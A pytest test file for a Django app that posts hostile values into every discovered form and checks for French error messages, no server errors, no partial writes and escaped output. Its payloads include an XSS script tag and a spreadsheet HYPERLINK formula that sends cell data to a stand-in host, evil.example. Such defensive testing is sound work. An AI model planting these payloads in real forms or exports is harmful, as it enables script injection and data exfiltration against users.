"""Hostile input on every form of the app: a French error, never a 500, never a partial write.

Forms are discovered from the pages of the permission matrix: each GET page a role may open
is fetched, every <form method="post"> found on it is parsed, and posted again with hostile
values in every free field (script tags, spreadsheet formulas, null bytes, 6 MB strings,
impossible and inverted dates, negative and >100 numbers). A rejected post must leave every
table unchanged; an accepted one must not store a script that is rendered unescaped.
"""

from html.parser import HTMLParser

import pytest
from django.apps import apps
from django.db import transaction
from django.urls import reverse

from tests.test_permission_matrix import CASES

SCRIPT = '<script>alert("xss")</script>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"clic")'
ROLES_THAT_EDIT = ["referent_a", "agent_ara", "admin"]
FRENCH_ERROR_MARKERS = ("fr-error-text", "fr-alert--error", "errorlist", "erreur", "Erreur")


class FormParser(HTMLParser):
    def __init__(self):
        super().__init__()
        self.forms, self._form, self._select = [], None, None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form" and (a.get("method") or "get").lower() == "post":
            self._form = {
                "action": a.get("action") or "",
                "fields": {},
                "multipart": "multipart" in (a.get("enctype") or ""),
            }
        elif self._form is None:
            return
        elif tag == "input" and a.get("name"):
            kind = (a.get("type") or "text").lower()
            if kind in {"checkbox", "radio"}:
                if a.get("checked") is not None or kind == "radio":
                    self._form["fields"].setdefault(a["name"], ("choice", a.get("value", "on")))
            elif kind not in {"submit", "button", "image", "reset"}:
                self._form["fields"][a["name"]] = (kind, a.get("value", ""))
        elif tag == "textarea" and a.get("name"):
            self._form["fields"][a["name"]] = ("textarea", "")
        elif tag == "select" and a.get("name"):
            self._select = a["name"]
            self._form["fields"][a["name"]] = ("choice", "")
        elif tag == "option" and self._select:
            current = self._form["fields"][self._select]
            if not current[1] and a.get("value"):
                self._form["fields"][self._select] = ("choice", a["value"])

    def handle_endtag(self, tag):
        if tag == "select":
            self._select = None
        elif tag == "form" and self._form is not None:
            self.forms.append(self._form)
            self._form = None


def hostile_variants(fields: dict):
    """Yield (label, data, files) variants, each breaking every free field one way."""
    text_payloads = {
        "script": SCRIPT,
        "formule": FORMULA,
        "octet-nul": "texte\x00avec un octet nul",
        "6-Mo": "x" * (6 * 1024 * 1024),
    }
    for label, payload in text_payloads.items():
        data = {}
        for name, (kind, value) in fields.items():
            if kind in {"text", "textarea", "search", "email", "url", "tel"}:
                data[name] = payload
            elif kind == "hidden":
                data[name] = value
            elif kind == "date":
                data[name] = "2026-02-31"
            elif kind == "number":
                data[name] = "-5" if label == "script" else "150"
            elif kind == "file":
                continue
            else:
                data[name] = value
        yield label, data
    inverted = {}
    for index, (name, (kind, value)) in enumerate(fields.items()):
        if kind == "date":
            inverted[name] = "2030-12-31" if index % 2 == 0 else "2020-01-01"
        elif kind == "number":
            inverted[name] = "-1"
        elif kind != "file":
            inverted[name] = value or "Valeur"
    yield "dates-inversees", inverted


def table_counts() -> dict:
    return {
        m._meta.label: m._default_manager.count()
        for m in apps.get_models()
        if m._meta.managed
        and not m._meta.proxy
        and m._meta.app_label not in {"sessions", "axes", "admin", "contenttypes", "auth"}
    }


def discover_forms(client, world):
    seen = set()
    for case in CASES:
        if case.method != "get":
            continue
        url = reverse(case.url_name, args=case.args(world))
        for role in ROLES_THAT_EDIT:
            if case.expect.get(role) != 200:
                continue
            client.force_login(
                world.users()[role], backend="django.contrib.auth.backends.ModelBackend"
            )
            response = client.get(url)
            if response.status_code != 200 or "text/html" not in response.get("Content-Type", ""):
                continue
            parser = FormParser()
            parser.feed(response.content.decode())
            for form in parser.forms:
                action = form["action"] or url
                key = (role, action, tuple(sorted(form["fields"])))
                if action.startswith("/deconnexion") or key in seen or not form["fields"]:
                    continue
                seen.add(key)
                yield role, url, action, form
            break


@pytest.mark.django_db(transaction=False)
def test_every_form_resists_hostile_input(matrix_world, client):
    client.raise_request_exception = False
    problems, tried = [], 0
    for role, page_url, action, form in list(discover_forms(client, matrix_world)):
        for label, data in hostile_variants(form["fields"]):
            client.force_login(
                matrix_world.users()[role], backend="django.contrib.auth.backends.ModelBackend"
            )
            before = table_counts()
            with transaction.atomic():
                response = client.post(action, data)
                after = table_counts()
                transaction.set_rollback(True)
            tried += 1
            where = f"{role} {action} ({label}, depuis {page_url})"
            if response.status_code >= 500:
                problems.append(f"{where} : erreur {response.status_code}")
                continue
            body = response.content.decode(errors="replace") if response.status_code == 200 else ""
            if SCRIPT in body:
                problems.append(f"{where} : script renvoyé sans échappement")
            if response.status_code == 200 and before != after:
                changed = {k: (before[k], after[k]) for k in before if before[k] != after[k]}
                problems.append(f"{where} : formulaire refusé mais écriture partielle {changed}")
            refused = response.status_code == 200 and before == after and label != "script"
            if refused and not any(marker in body for marker in FRENCH_ERROR_MARKERS):
                problems.append(f"{where} : refusé sans message d'erreur visible")
    print(f"{tried} envois hostiles")
    assert tried > 0
    assert not problems, "\n".join(problems)
